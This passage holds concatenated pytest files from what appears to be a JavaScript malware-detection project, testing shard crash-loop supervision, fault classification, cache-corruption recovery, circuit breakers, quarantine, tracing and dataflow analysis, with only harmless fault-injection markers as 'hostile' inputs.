    assert entry["next_restart_s"] > 0  # the retry timer is visible to operators


def test_backoff_state_visible_mid_schedule():
    clock = FakeClock()
    supervisor = make_supervisor(clock, restart_budget=5)
    run_schedule(supervisor, clock, ticks=6)  # past the immediate respawn
    entry = supervisor.snapshot()[0]
    assert entry["state"] in (SHARD_BACKOFF, "starting")
    assert entry["healthy"] is False


# ----------------------------------------------------- real processes


def test_boot_fault_shard_parks_in_crash_loop_while_replica_serves(
    detector, split, tmp_path_factory
):
    model_dir = str(tmp_path_factory.mktemp("crash-loop-model"))
    save_detector(detector, model_dir)
    config = ClusterConfig(
        model_dir=model_dir,
        n_shards=2,
        port=0,
        cache_dir=str(tmp_path_factory.mktemp("crash-loop-cache")),
        router=RouterConfig(request_timeout_s=30.0),
        restart_backoff_s=0.2,
        restart_backoff_max_s=1.0,
        restart_budget=2,
        crash_loop_retry_s=600.0,
    )
    with BackgroundCluster(config) as cluster:
        client = ScanClient(cluster.url, timeout_s=60.0, retries=3)
        fleet = {s["shard"]: s for s in client.healthz()["shards"]}
        victim_pid = fleet["shard-1"]["pid"]

        supervisor = cluster.controller.supervisor
        # From now on every shard-1 incarnation dies at boot: the marker
        # in REPRO_FAULT_BOOT fires inside run_server before the listener
        # binds, which is exactly a poisoned-host crash loop.
        cluster.call_soon(
            supervisor.shard_env.__setitem__,
            "shard-1",
            {"REPRO_FAULT_INJECT": "1", "REPRO_FAULT_BOOT": "/* @repro-fault:exit137@boot */"},
        )
        time.sleep(0.2)
        os.kill(victim_pid, signal.SIGKILL)

        # Scans must keep succeeding throughout — shard-1's keys are
        # served by their replica (R=2 over 2 shards covers every slot).
        deadline = time.monotonic() + 120.0
        parked = False
        while time.monotonic() < deadline and not parked:
            for source in split.test.sources[:4]:
                verdict = client.scan(source)
                assert verdict.verdict in ("malicious", "benign")
            state = {s["shard"]: s for s in client.healthz()["shards"]}
            parked = state["shard-1"]["state"] == SHARD_CRASH_LOOP
        assert parked, "shard-1 never reached crash_loop fleet state"
        assert state["shard-1"]["healthy"] is False
        assert state["shard-1"]["death_streak"] >= config.restart_budget + 1
        assert state["shard-0"]["healthy"] is True

        # The respawn log must show backoff, not a busy spin: consecutive
        # respawns of shard-1 are separated by at least the base backoff
        # once the streak is past the immediate first replacement.
        respawns = [t for shard_id, t in supervisor.respawn_log if shard_id == "shard-1"]
        assert 1 <= len(respawns) <= config.restart_budget
        gaps = [b - a for a, b in zip(respawns, respawns[1:])]
        for gap in gaps[1:]:
            assert gap >= config.restart_backoff_s

        # And the fleet still answers as degraded, not down.
        health = client.healthz()
        assert health["status"] == "degraded"
        for source in split.test.sources[:4]:
            assert client.scan(source).verdict in ("malicious", "benign")
