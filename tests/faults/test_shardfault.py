"""Classification matrix for shard-level faults (router retry policy)."""

import asyncio

import pytest

from repro.faults import (
    SHARD_DEAD,
    SHARD_OK,
    SHARD_OVERLOADED,
    SHARD_REQUEST,
    SHARD_SLOW,
    classify_shard_fault,
)
from repro.serve.http import ProtocolError


def test_timeout_is_slow_and_retryable():
    fault = classify_shard_fault(asyncio.TimeoutError())
    assert fault.cause == SHARD_SLOW
    assert fault.retryable and fault.suspect


def test_transport_error_is_dead():
    fault = classify_shard_fault(ConnectionRefusedError("refused"))
    assert fault.cause == SHARD_DEAD
    assert fault.retryable and fault.suspect


def test_unframeable_response_is_dead():
    fault = classify_shard_fault(ProtocolError(502, "malformed status line"))
    assert fault.cause == SHARD_DEAD
    assert fault.retryable


def test_503_is_retryable_overload():
    fault = classify_shard_fault(None, 503)
    assert fault.cause == SHARD_OVERLOADED
    assert fault.retryable and fault.suspect


def test_429_is_non_retryable_overload():
    fault = classify_shard_fault(None, 429)
    assert fault.cause == SHARD_OVERLOADED
    assert not fault.retryable and not fault.suspect


@pytest.mark.parametrize("status", [400, 404, 405, 413])
def test_4xx_is_the_requests_fault(status):
    fault = classify_shard_fault(None, status)
    assert fault.cause == SHARD_REQUEST
    assert not fault.retryable and not fault.suspect


def test_5xx_is_dead():
    fault = classify_shard_fault(None, 500)
    assert fault.cause == SHARD_DEAD
    assert fault.retryable and fault.suspect


def test_2xx_is_ok():
    fault = classify_shard_fault(None, 200)
    assert fault.cause == SHARD_OK
    assert not fault.retryable


def test_needs_error_or_status():
    with pytest.raises(ValueError):
        classify_shard_fault(None, None)
