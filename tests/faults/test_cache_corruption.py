"""Disk-cache hardening: corrupt bytes decay to a counted miss.

The on-disk layer persists across processes, so its files are hostile
input too — truncated writes, bit flips, stale formats.  Every corruption
mode must read back as a miss (plus ``repro_cache_corrupt_total``) and the
poisoned file must be removed so the slot heals on the next put.
"""

import numpy as np
import pytest

from repro.obs import MetricsRegistry
from repro.pipeline import CACHE_FORMAT_VERSION, CacheEntry, FeatureCache


def make_cache(tmp_path, metrics=None):
    return FeatureCache("f" * 64, cache_dir=tmp_path, metrics=metrics)


def entry():
    return CacheEntry(
        vectors=np.arange(12, dtype=np.float64).reshape(3, 4),
        weights=np.array([0.5, 0.3, 0.2]),
        path_count=3,
    )


def stored_path(tmp_path, key):
    [path] = list((tmp_path / ("f" * 16)).glob(f"{key}.npz"))
    return path


class TestDiskCorruption:
    KEY = "a" * 64

    def put_one(self, tmp_path, metrics=None):
        cache = make_cache(tmp_path, metrics=metrics)
        cache.put(self.KEY, entry())
        return stored_path(tmp_path, self.KEY)

    def fresh_reader(self, tmp_path, metrics=None):
        # A new instance with an empty memory layer, forced to the disk path.
        return make_cache(tmp_path, metrics=metrics)

    def test_round_trip_sanity(self, tmp_path):
        self.put_one(tmp_path)
        got = self.fresh_reader(tmp_path).get(self.KEY)
        assert got is not None
        assert np.array_equal(got.vectors, entry().vectors)
        assert got.path_count == 3

    def test_bit_flip_is_a_counted_miss_and_file_is_removed(self, tmp_path):
        path = self.put_one(tmp_path)
        raw = bytearray(path.read_bytes())
        raw[len(raw) // 2] ^= 0xFF
        path.write_bytes(bytes(raw))

        metrics = MetricsRegistry()
        cache = self.fresh_reader(tmp_path, metrics=metrics)
        assert cache.get(self.KEY) is None
        assert cache.stats()["corrupt"] == 1
        assert cache.stats()["misses"] == 1
        assert not path.exists()
        assert "repro_cache_corrupt_total 1" in metrics.render()

    def test_truncated_file_is_a_counted_miss(self, tmp_path):
        path = self.put_one(tmp_path)
        path.write_bytes(path.read_bytes()[:40])
        cache = self.fresh_reader(tmp_path)
        assert cache.get(self.KEY) is None
        assert cache.stats()["corrupt"] == 1
        assert not path.exists()

    def test_empty_file_is_a_counted_miss(self, tmp_path):
        path = self.put_one(tmp_path)
        path.write_bytes(b"")
        cache = self.fresh_reader(tmp_path)
        assert cache.get(self.KEY) is None
        assert cache.stats()["corrupt"] == 1

    def test_wrong_format_version_is_rejected(self, tmp_path):
        path = self.put_one(tmp_path)
        e = entry()
        with path.open("wb") as handle:
            np.savez_compressed(
                handle,
                vectors=e.vectors,
                weights=e.weights,
                path_count=np.int64(e.path_count),
                format_version=np.int64(CACHE_FORMAT_VERSION + 1),
            )
        cache = self.fresh_reader(tmp_path)
        assert cache.get(self.KEY) is None
        assert cache.stats()["corrupt"] == 1
        assert not path.exists()

    def test_missing_format_version_is_rejected(self, tmp_path):
        # Pre-versioning files (seed era) must be invalidated, not trusted.
        path = self.put_one(tmp_path)
        e = entry()
        with path.open("wb") as handle:
            np.savez_compressed(
                handle, vectors=e.vectors, weights=e.weights, path_count=np.int64(e.path_count)
            )
        cache = self.fresh_reader(tmp_path)
        assert cache.get(self.KEY) is None
        assert cache.stats()["corrupt"] == 1

    def test_shape_mismatch_is_rejected(self, tmp_path):
        path = self.put_one(tmp_path)
        with path.open("wb") as handle:
            np.savez_compressed(
                handle,
                vectors=np.zeros((3, 4)),
                weights=np.zeros(7),  # weights disagree with vectors
                path_count=np.int64(3),
                format_version=np.int64(CACHE_FORMAT_VERSION),
            )
        cache = self.fresh_reader(tmp_path)
        assert cache.get(self.KEY) is None
        assert cache.stats()["corrupt"] == 1

    def test_slot_heals_after_corruption(self, tmp_path):
        path = self.put_one(tmp_path)
        path.write_bytes(b"garbage")
        cache = self.fresh_reader(tmp_path)
        assert cache.get(self.KEY) is None
        cache.put(self.KEY, entry())
        reread = self.fresh_reader(tmp_path).get(self.KEY)
        assert reread is not None and reread.path_count == 3

    def test_memory_layer_is_untouched_by_disk_corruption(self, tmp_path):
        cache = make_cache(tmp_path)
        cache.put(self.KEY, entry())
        stored_path(tmp_path, self.KEY).write_bytes(b"garbage")
        # Memory hit wins; the corrupt disk file is never consulted.
        assert cache.get(self.KEY) is not None
        assert cache.stats()["corrupt"] == 0


@pytest.mark.parametrize("garbage", [b"not an npz", b"PK\x03\x04 truncated zip header"])
def test_arbitrary_garbage_never_raises(tmp_path, garbage):
    cache = make_cache(tmp_path)
    cache.put("b" * 64, entry())
    stored_path(tmp_path, "b" * 64).write_bytes(garbage)
    fresh = make_cache(tmp_path)
    assert fresh.get("b" * 64) is None
    assert fresh.stats()["corrupt"] == 1
