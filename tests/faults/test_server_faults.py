"""Daemon resilience: hostile scripts degrade requests, never the service.

Real sockets, real worker kills.  One server (module scope) exercises the
degraded-verdict path, quarantine surfacing, 413, and fault metrics; a
fresh per-test server walks the breaker lifecycle end to end.
"""

import http.client
import json
import time

import pytest

from repro.serve import BackgroundServer, ServeConfig

HANG_A = "/* @repro-fault:hang */ var a = 1;"
HANG_B = "/* @repro-fault:hang */ var b = 2;"
CLEAN = "var x = document.location;"


@pytest.fixture(scope="module", autouse=True)
def _arm_inject():
    # Module-scoped so every worker the persistent pool (re)spawns inherits
    # the flag, not just the ones forked during one test.
    patcher = pytest.MonkeyPatch()
    patcher.setenv("REPRO_FAULT_INJECT", "1")
    yield
    patcher.undo()


@pytest.fixture(scope="module")
def server(detector, tmp_path_factory):
    config = ServeConfig(
        port=0,
        timeout_s=1.0,
        max_rss_mb=256,
        quarantine_dir=str(tmp_path_factory.mktemp("quarantine")),
        breaker_threshold=50,  # lifecycle is tested on its own server below
        max_body_bytes=4096,
    )
    with BackgroundServer(detector, config) as background:
        yield background


def http_json(background, method, path, payload=None, raw_body=None):
    connection = http.client.HTTPConnection(background.host, background.port, timeout=30)
    body = raw_body if raw_body is not None else (
        json.dumps(payload) if payload is not None else None
    )
    headers = {"Content-Type": "application/json"} if body is not None else {}
    connection.request(method, path, body=body, headers=headers)
    response = connection.getresponse()
    data = response.read()
    status, header_map = response.status, dict(response.getheaders())
    connection.close()
    return status, header_map, data


class TestDegradedRequests:
    def test_hanging_script_returns_degraded_timeout_verdict(self, server):
        status, _, body = http_json(
            server, "POST", "/scan", {"source": HANG_A, "name": "hang.js"}
        )
        payload = json.loads(body)
        assert status == 200  # the request survives the worker
        assert payload["status"] == "timeout"
        assert payload["degraded"] is True
        assert payload["fault"]["cause"] == "timeout"
        assert 0.0 <= payload["probability"] <= 1.0

    def test_resubmission_is_served_from_quarantine(self, server):
        started = time.monotonic()
        status, _, body = http_json(
            server, "POST", "/scan", {"source": HANG_A, "name": "hang-again.js"}
        )
        payload = json.loads(body)
        assert status == 200
        assert payload["status"] == "timeout"
        assert payload["fault"]["known"] is True
        # No worker burned a deadline on it the second time.
        assert time.monotonic() - started < 1.0

    def test_clean_scan_still_works_after_faults(self, server, detector, split):
        source = split.test.sources[0]
        expected = detector.scan(source)
        status, _, body = http_json(server, "POST", "/scan", {"source": source})
        payload = json.loads(body)
        assert status == 200
        assert payload["status"] == "ok"
        assert payload["degraded"] is False
        assert payload["probability"] == expected.probability

    def test_healthz_reports_breaker_and_quarantine(self, server):
        status, _, body = http_json(server, "GET", "/healthz")
        payload = json.loads(body)
        assert status == 200
        assert payload["breaker"]["state"] in {"closed", "open", "half_open"}
        assert payload["quarantined"] >= 1

    def test_metrics_count_failures_by_cause(self, server):
        _, _, body = http_json(server, "GET", "/metrics")
        text = body.decode()
        assert 'repro_scan_failures_total{cause="timeout"}' in text
        assert "repro_breaker_state" in text

    def test_oversized_body_is_413(self, server):
        big = json.dumps({"source": "x" * 8192})
        status, _, body = http_json(server, "POST", "/scan", raw_body=big)
        assert status == 413
        assert b"body exceeds 4096 bytes" in body

    def test_version_echoes_fault_config(self, server):
        _, _, body = http_json(server, "GET", "/version")
        config = json.loads(body)["config"]
        assert config["timeout_s"] == 1.0
        assert config["max_rss_mb"] == 256
        assert config["max_body_bytes"] == 4096


class TestBreakerLifecycle:
    @pytest.fixture()
    def fragile_server(self, detector):
        config = ServeConfig(
            port=0,
            timeout_s=1.0,
            breaker_threshold=2,
            breaker_reset_s=1.0,
        )
        with BackgroundServer(detector, config) as background:
            yield background

    def breaker_state(self, background):
        _, _, body = http_json(background, "GET", "/healthz")
        return json.loads(body)["breaker"]["state"]

    def test_sustained_deaths_open_then_probe_closes(self, fragile_server):
        # Two distinct poison scripts = two fresh worker deaths = threshold.
        # (A repeat of the same script is served from quarantine and would
        # not count — the breaker only counts scripts that cost a worker.)
        for source in (HANG_A, HANG_B):
            status, _, body = http_json(fragile_server, "POST", "/scan", {"source": source})
            assert status == 200
            assert json.loads(body)["status"] == "timeout"

        status, headers, body = http_json(fragile_server, "POST", "/scan", {"source": CLEAN})
        assert status == 503
        assert "Retry-After" in headers
        assert int(headers["Retry-After"]) >= 1
        assert b"circuit breaker" in body
        assert self.breaker_state(fragile_server) == "open"

        time.sleep(1.1)  # past breaker_reset_s: next request is the probe
        status, _, body = http_json(fragile_server, "POST", "/scan", {"source": CLEAN})
        assert status == 200
        assert json.loads(body)["status"] == "ok"
        assert self.breaker_state(fragile_server) == "closed"
