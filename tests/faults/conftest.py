"""Shared fixtures for the chaos suite: one tiny trained detector.

The fault-isolation tests spawn real worker processes, kill them with real
signals, and drive real deadlines, so the detector is kept as small as the
pipeline allows (the isolation layer's behavior does not depend on model
size).  Trained once per session and shared by every module here.
"""

import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split


@pytest.fixture(scope="session")
def split():
    return experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)


@pytest.fixture(scope="session")
def detector(split):
    det = JSRevealer(
        JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7)
    )
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


@pytest.fixture()
def inject(monkeypatch):
    """Arm the chaos seam for one test (workers inherit the environment)."""
    monkeypatch.setenv("REPRO_FAULT_INJECT", "1")
