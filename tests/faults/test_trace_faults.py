"""Tracing across the isolation boundary: worker spans and fault synthesis.

The cross-process contract: the scanner serializes a ``SpanContext`` into
each task envelope, healthy workers ship their stage spans back in the
reply (re-parented under the file's ``script`` span), and for workers
that never answer — killed on deadline or found dead — the parent
synthesizes a terminal error span from the fault classification, so a
trace never has a silent gap where a worker died.
"""

import pytest

from repro.faults import ScanLimits
from repro.obs import Tracer, span_tree
from repro.pipeline import BatchScanner

HANG = "/* @repro-fault:hang */ var a = 1;"

LIMITS = ScanLimits(timeout_s=2.0)


def walk(nodes):
    """Flatten a per-file span tree (``result.trace['spans']`` is nested)."""
    for node in nodes:
        yield node
        yield from walk(node.get("children", []))


def spans_named(trace, name):
    return [span for span in walk(trace["spans"]) if span["name"] == name]


class TestIsolatedTracing:
    def test_worker_embed_spans_reparent_under_script_spans(self, detector, split):
        scanner = BatchScanner(
            detector, n_workers=2, limits=LIMITS, tracer=Tracer(sample_rate=1.0)
        )
        report = scanner.scan(split.test.sources[:4], trace=True)
        assert report.trace is not None
        assert all(result.status == "ok" for result in report.results)
        for result in report.results:
            worker = spans_named(result.trace, "worker.embed")
            assert len(worker) == 1, result.path
            assert worker[0]["parent_id"] == result.trace["span_id"]
            assert worker[0]["attributes"]["pid"] != 0
            # Worker-side stage children came back across the pipe.
            children = {child["name"] for child in worker[0]["children"]}
            assert {"path_extraction", "embedding"} <= children
            # Provenance survived the process boundary too.
            assert result.trace["provenance"]["top_paths"]

    def test_all_spans_share_the_batch_trace_id(self, detector, split):
        scanner = BatchScanner(
            detector, n_workers=2, limits=LIMITS, tracer=Tracer(sample_rate=1.0)
        )
        report = scanner.scan(split.test.sources[:3], trace=True)
        trace_id = report.trace["trace_id"]
        # The report-level span list is flat (one entry per finished span).
        assert all(span["trace_id"] == trace_id for span in report.trace["spans"])
        assert any(span["name"] == "worker.embed" for span in report.trace["spans"])

    def test_killed_worker_gets_synthesized_terminal_span(self, detector, split, inject):
        scanner = BatchScanner(
            detector, n_workers=1, limits=LIMITS, tracer=Tracer(sample_rate=1.0)
        )
        report = scanner.scan([HANG, split.test.sources[0]], trace=True)
        hung = report.results[0]
        assert hung.status == "timeout"
        terminal = spans_named(hung.trace, "worker.embed")
        assert len(terminal) == 1
        span = terminal[0]
        assert span["status"] == "error"
        assert span["attributes"]["cause"] == "timeout"
        assert "deadline" in span["status_detail"]
        # Synthesized duration reflects the enforced deadline, and the span
        # parents under the script span like a real worker reply would.
        assert span["duration_ms"] == pytest.approx(1000.0 * LIMITS.timeout_s)
        assert span["parent_id"] == hung.trace["span_id"]
        # The healthy neighbor still traced normally.
        healthy = report.results[1]
        assert healthy.status == "ok"
        assert spans_named(healthy.trace, "worker.embed")[0]["status"] == "ok"

    def test_batch_root_marks_error_when_faults_present(self, detector, split, inject):
        scanner = BatchScanner(
            detector, n_workers=1, limits=LIMITS, tracer=Tracer(sample_rate=1.0)
        )
        report = scanner.scan([HANG], trace=True)
        roots = span_tree(report.trace["spans"])
        assert roots[0]["name"] == "scan.batch"
        assert roots[0]["status"] == "error"
        assert roots[0]["attributes"]["fault_count"] == 1

    def test_untraced_isolated_scan_has_no_trace(self, detector, split):
        scanner = BatchScanner(detector, n_workers=1, limits=LIMITS)
        report = scanner.scan(split.test.sources[:2])
        assert report.trace is None
        assert all(result.trace is None for result in report.results)
        assert all(result.status == "ok" for result in report.results)
