"""Pathologically deep inputs degrade to ``parse_error``, never a crash.

``examples/hostile/deep_chain.js`` nests far beyond the interpreter's
recursion budget; every layer that walks the AST must convert the
resulting ``RecursionError`` into its own structured failure.
"""

from pathlib import Path

import pytest

from repro.analysis import Analyzer
from repro.paths import ExtractionError, PathExtractor
from repro.pipeline import BatchScanner

HOSTILE = Path(__file__).resolve().parents[2] / "examples" / "hostile" / "deep_chain.js"


@pytest.fixture(scope="module")
def deep_source():
    return HOSTILE.read_text()


class TestRecursionGuards:
    def test_extractor_raises_structured_error(self, deep_source):
        with pytest.raises(ExtractionError, match="[Rr]ecursion|too deep|depth"):
            PathExtractor().extract_from_source(deep_source)

    def test_analyzer_degrades_without_rule_errors(self, deep_source):
        analyzer = Analyzer()
        report = analyzer.analyze(deep_source, name="deep_chain.js")
        # The rule engine never saw a traversal blow-up; the extraction
        # failure is reported as findings, not as per-rule exceptions.
        assert analyzer.rule_errors == 0
        assert report.findings  # the failure itself is evidence

    def test_scan_reports_parse_error_status(self, detector, deep_source):
        report = BatchScanner(detector, n_workers=1).scan([deep_source])
        result = report.results[0]
        assert result.status == "parse_error"
        assert result.path_count == 0
        assert not result.faulted  # parse errors are not worker faults
        assert report.fault_count == 0
