"""Unit tests for the plain-data half of the isolation layer."""

import json

import pytest

from repro.faults import QuarantineEntry, QuarantineJournal, ScanLimits


class TestScanLimits:
    def test_inactive_by_default(self):
        assert not ScanLimits().active

    @pytest.mark.parametrize(
        "kwargs",
        [{"timeout_s": 1.0}, {"max_rss_mb": 128}, {"max_cpu_s": 2.0}],
    )
    def test_any_bound_activates(self, kwargs):
        assert ScanLimits(**kwargs).active

    def test_analysis_timeout_alone_does_not_activate(self):
        # It only shapes the degraded-analysis deadline; isolation needs a
        # real bound.
        assert not ScanLimits(analysis_timeout_s=1.0).active

    def test_validate_rejects_non_positive(self):
        with pytest.raises(ValueError, match="timeout_s"):
            ScanLimits(timeout_s=0).validate()
        with pytest.raises(ValueError, match="max_rss_mb"):
            ScanLimits(max_rss_mb=-1).validate()

    def test_deadline_for_analysis_falls_back_to_timeout(self):
        limits = ScanLimits(timeout_s=5.0)
        assert limits.deadline_for("embed") == 5.0
        assert limits.deadline_for("analyze") == 5.0
        limits = ScanLimits(timeout_s=5.0, analysis_timeout_s=1.0)
        assert limits.deadline_for("analyze") == 1.0

    def test_dict_round_trip(self):
        limits = ScanLimits(timeout_s=2.0, max_rss_mb=256)
        assert ScanLimits.from_dict(limits.to_dict()) == limits
        assert ScanLimits.from_dict(None) is None
        assert ScanLimits.from_dict({}) is None


class TestQuarantineJournal:
    def entry(self, sha="a" * 64, cause="timeout"):
        return QuarantineEntry(
            sha256=sha, name="evil.js", stage="embed", cause=cause, detail="d", rusage=None
        )

    def test_memory_only_round_trip(self):
        journal = QuarantineJournal()
        assert "a" * 64 not in journal
        journal.record(self.entry())
        assert "a" * 64 in journal
        assert journal.lookup("a" * 64).cause == "timeout"
        assert len(journal) == 1

    def test_disk_round_trip(self, tmp_path):
        journal = QuarantineJournal.in_dir(tmp_path)
        journal.record(self.entry(sha="b" * 64, cause="oom"))
        journal.record(self.entry(sha="c" * 64, cause="crashed"))
        # A fresh instance over the same file sees both entries.
        reloaded = QuarantineJournal.in_dir(tmp_path)
        assert len(reloaded) == 2
        assert reloaded.lookup("b" * 64).cause == "oom"
        assert reloaded.lookup("c" * 64).cause == "crashed"

    def test_record_is_idempotent_per_sha(self, tmp_path):
        journal = QuarantineJournal.in_dir(tmp_path)
        journal.record(self.entry())
        journal.record(self.entry(cause="oom"))  # index updates, file doesn't grow
        lines = (tmp_path / "quarantine.jsonl").read_text().splitlines()
        assert len(lines) == 1
        assert len(journal) == 1

    def test_torn_tail_line_is_skipped(self, tmp_path):
        path = tmp_path / "quarantine.jsonl"
        good = json.dumps(self.entry().to_dict())
        path.write_text(good + "\n" + good[: len(good) // 2])  # crash mid-write
        journal = QuarantineJournal(path)
        assert len(journal) == 1

    def test_entries_are_valid_jsonl(self, tmp_path):
        journal = QuarantineJournal.in_dir(tmp_path)
        journal.record(self.entry())
        for line in (tmp_path / "quarantine.jsonl").read_text().splitlines():
            record = json.loads(line)
            assert {"sha256", "name", "stage", "cause", "detail", "ts"} <= set(record)
