"""Unit tests for def-use analysis."""

from repro.dataflow import analyze_defuse
from repro.jsparser import parse


def events(source):
    info = analyze_defuse(parse(source))
    return [(e.binding.name, e.kind) for e in sorted(info.events, key=lambda e: e.order)]


class TestDefinitions:
    def test_declaration_with_init_is_def(self):
        assert ("x", "def") in events("var x = 1;")

    def test_declaration_without_init_is_not_def(self):
        assert events("var x;") == []

    def test_assignment_is_def(self):
        evs = events("var x; x = 1;")
        assert evs == [("x", "def")]

    def test_for_in_left_is_def(self):
        evs = events("var k; for (k in o) {}")
        assert ("k", "def") in evs

    def test_compound_assignment_is_use_then_def(self):
        evs = events("var x = 1; x += 2;")
        assert evs == [("x", "def"), ("x", "use"), ("x", "def")]

    def test_update_expression_is_use_then_def(self):
        evs = events("var i = 0; i++;")
        assert evs == [("i", "def"), ("i", "use"), ("i", "def")]


class TestUses:
    def test_read_is_use(self):
        evs = events("var x = 1; f(x);")
        assert ("x", "use") in evs

    def test_rhs_of_assignment_is_use(self):
        evs = events("var a = 1; var b = a;")
        assert evs == [("a", "def"), ("b", "def"), ("a", "use")]

    def test_member_object_is_use(self):
        evs = events("var o = {}; o.x;")
        assert ("o", "use") in evs

    def test_property_name_is_not_use(self):
        evs = events("var x = {}; obj.x;")
        assert ("x", "use") not in evs

    def test_closure_use(self):
        evs = events("var a = 1; function f() { return a; }")
        assert ("a", "use") in evs

    def test_unresolved_global_not_tracked(self):
        assert events("console.log(1);") == []


class TestAccessors:
    def test_defs_and_uses_for(self):
        info = analyze_defuse(parse("var x = 1; x = 2; f(x);"))
        binding = info.analyzer.global_scope.bindings["x"]
        assert len(info.defs_for(binding)) == 2
        assert len(info.uses_for(binding)) == 1

    def test_event_of_node_mapping(self):
        info = analyze_defuse(parse("var y = 1; g(y);"))
        binding = info.analyzer.global_scope.bindings["y"]
        use = info.uses_for(binding)[0]
        assert info.event_of_node[id(use.node)] is use

    def test_order_reflects_source_order(self):
        info = analyze_defuse(parse("var a = 1; var b = a; var c = b;"))
        ordered = [e for e in sorted(info.events, key=lambda e: e.order)]
        names = [(e.binding.name, e.kind) for e in ordered]
        assert names.index(("a", "def")) < names.index(("a", "use"))
        assert names.index(("b", "def")) < names.index(("b", "use"))
