"""Unit tests for the enhanced AST (data-dependency edges + leaf values)."""

from repro.dataflow import build_enhanced_ast, build_regular_ast
from repro.jsparser import find_all, parse


def enhanced(source):
    return build_enhanced_ast(parse(source))


class TestDependencyEdges:
    def test_def_to_use_edge(self):
        e = enhanced("var x = 1; f(x);")
        assert e.edge_count == 1
        edge = e.dependency_edges[0]
        assert edge.name == "x"

    def test_no_edges_without_shared_variables(self):
        e = enhanced("var a = 1; var b = 2;")
        assert e.edge_count == 0

    def test_latest_def_reaches_use(self):
        e = enhanced("var x = 1; x = 2; f(x);")
        # The use connects to the *latest* definition (x = 2).
        edge = e.dependency_edges[-1]
        assert edge.source.loc[0] == 1  # same line, but the assignment def
        uses = [d for d in e.dependency_edges if d.target.name == "x"]
        assert uses

    def test_multiple_uses_multiple_edges(self):
        e = enhanced("var v = 1; f(v); g(v); h(v);")
        assert e.edge_count == 3

    def test_paper_listing_example(self):
        # From the paper's Figure 2: timeZoneMinutes has data dependencies,
        # dateStr (used once per statement chain) keeps flowing too.
        src = """
        function getTimezoneOffset(dateStr) {
          var timeZoneMinutes = 0;
          if (dateStr.indexOf("+") !== -1) {
            var parts = dateStr.split("+");
            timeZoneMinutes = parseInt(parts[1], 10) * 60;
          }
          return timeZoneMinutes;
        }
        """
        e = enhanced(src)
        names = {edge.name for edge in e.dependency_edges}
        assert "timeZoneMinutes" in names
        assert "parts" in names

    def test_regular_ast_has_no_edges(self):
        program = parse("var x = 1; f(x);")
        regular = build_regular_ast(program)
        assert regular.edge_count == 0


class TestLeafValues:
    def test_connected_identifier_gets_dd_marker(self):
        e = enhanced("var keep = 1; f(keep);")
        identifiers = find_all(e.program, "Identifier")
        keeps = [i for i in identifiers if i.name == "keep"]
        assert any(e.leaf_value(i) == "@dd_int" for i in keeps)

    def test_dd_marker_is_rename_invariant(self):
        a = enhanced("var keep = 1; f(keep);")
        b = enhanced("var _0xab12 = 1; f(_0xab12);")
        vals_a = {a.leaf_value(i) for i in find_all(a.program, "Identifier")}
        vals_b = {b.leaf_value(i) for i in find_all(b.program, "Identifier")}
        assert vals_a == vals_b

    def test_unconnected_string_var_abstracted(self):
        e = enhanced("var dateStr = 'abc';")
        declarator = e.program.body[0].declarations[0]
        assert e.leaf_value(declarator.id) == "@var_str"

    def test_unconnected_int_var_abstracted(self):
        e = enhanced("var n = 5;")
        declarator = e.program.body[0].declarations[0]
        assert e.leaf_value(declarator.id) == "@var_int"

    def test_regular_ast_abstracts_even_connected_vars(self):
        program = parse("var x = 1; f(x);")
        regular = build_regular_ast(program)
        declarator = program.body[0].declarations[0]
        assert regular.leaf_value(declarator.id) == "@var_int"

    def test_host_global_keeps_name(self):
        e = enhanced("document.write('x');")
        identifiers = find_all(e.program, "Identifier")
        doc = next(i for i in identifiers if i.name == "document")
        assert e.leaf_value(doc) == "document"

    def test_literal_abstractions(self):
        e = enhanced("var a = 'str'; var b = 3; var c = 2.5; var d = true; var f = null;")
        literals = find_all(e.program, "Literal")
        values = [e.leaf_value(l) for l in literals]
        assert values == ["@lit_str", "@lit_int", "@lit_float", "@lit_bool", "@lit_null"]

    def test_regex_literal_abstraction(self):
        e = enhanced("var r = /a+/;")
        literal = e.program.body[0].declarations[0].init
        assert e.leaf_value(literal) == "@lit_regex"

    def test_this_expression_value(self):
        e = enhanced("var s = this;")
        this_node = e.program.body[0].declarations[0].init
        assert e.leaf_value(this_node) == "this"


class TestTypeInference:
    def test_function_var(self):
        e = enhanced("var f = function() {};")
        assert e.leaf_value(e.program.body[0].declarations[0].id) == "@var_func"

    def test_array_var(self):
        e = enhanced("var a = [1];")
        assert e.leaf_value(e.program.body[0].declarations[0].id) == "@var_arr"

    def test_object_var(self):
        e = enhanced("var o = {};")
        assert e.leaf_value(e.program.body[0].declarations[0].id) == "@var_obj"

    def test_comparison_yields_bool(self):
        e = enhanced("var b = 1 < 2;")
        assert e.leaf_value(e.program.body[0].declarations[0].id) == "@var_bool"

    def test_string_concat_yields_str(self):
        e = enhanced("var s = 'a' + 1;")
        assert e.leaf_value(e.program.body[0].declarations[0].id) == "@var_str"

    def test_unknown_yields_any(self):
        e = enhanced("var u = someCall();")
        assert e.leaf_value(e.program.body[0].declarations[0].id) == "@var_any"
