"""Property-based invariants of the CFG and PDG builders over the corpus."""

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.dataflow import build_cfg, build_pdg
from repro.datasets import generate_benign, generate_malicious
from repro.jsparser import parse, walk

_STATEMENT_SUFFIXES = ("Statement", "Declaration")


def _statements(program):
    return [
        n
        for n in walk(program)
        if n.type.endswith(_STATEMENT_SUFFIXES) and n.type != "Program"
    ]


@settings(max_examples=30, deadline=None)
@given(st.integers(0, 10_000), st.booleans())
def test_graph_nodes_are_statements_or_control_roots(seed, malicious):
    gen = generate_malicious if malicious else generate_benign
    program = parse(gen(np.random.default_rng(seed)))
    statement_ids = {id(s) for s in _statements(program)}

    cfg = build_cfg(program)
    assert set(cfg.node_of) <= statement_ids

    # The PDG additionally roots control dependence in enclosing function
    # expressions (arrow/function callbacks), which are not statements.
    pdg = build_pdg(program)
    allowed = statement_ids | {
        id(n) for n in walk(program) if n.type in ("FunctionExpression", "ArrowFunctionExpression")
    }
    assert set(pdg.node_of) <= allowed


@settings(max_examples=30, deadline=None)
@given(st.integers(0, 10_000), st.booleans())
def test_pdg_edges_are_typed(seed, malicious):
    gen = generate_malicious if malicious else generate_benign
